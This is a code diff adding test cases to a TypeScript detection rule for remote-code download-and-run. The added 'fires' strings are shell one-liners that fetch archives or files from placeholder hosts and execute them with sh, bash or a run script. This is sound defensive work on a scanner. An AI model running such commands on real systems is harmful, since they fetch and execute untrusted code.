@@ -12,6 +12,8 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
   },
   'remote-code.download-and-run': {
     fires: [
+      'curl -sL http://h/x.tgz | tar xz -C /tmp && /tmp/x/run',
+      'wget http://h/x.zip && unzip -d /tmp/x x.zip && sh /tmp/x/run.sh',
       'curl -o /tmp/x https://x.example/y; chmod 755 /tmp/x',
       'rsync a@x.example:/b /tmp/b; sh /tmp/b',
       'lwp-download http://x.example/a /tmp/a && bash /tmp/a',
@@ -27,6 +29,8 @@ export const REMOTE_CODE_EXAMPLES: RuleExamples = {
       'curl http://x -o /tmp/a && chmod +x /tmp/a && /tmp/a',
     ],
     silent: [
+      'curl -L https://h/x.tgz | tar xz -C /tmp && sudo mv /tmp/x/x /usr/local/bin/',
+      'tar xzf local.tgz -C /tmp && /tmp/x/run',
       'curl -o /tmp/x https://x.example/y; chmod +x /tmp/x; mv /tmp/x /usr/local/bin/x',
       'curl -o /tmp/x https://x.example/y; chmod 644 /tmp/x',
       'curl -o /tmp/x https://x.example/y; cp a /usr/local/bin/; chmod +x ./b',
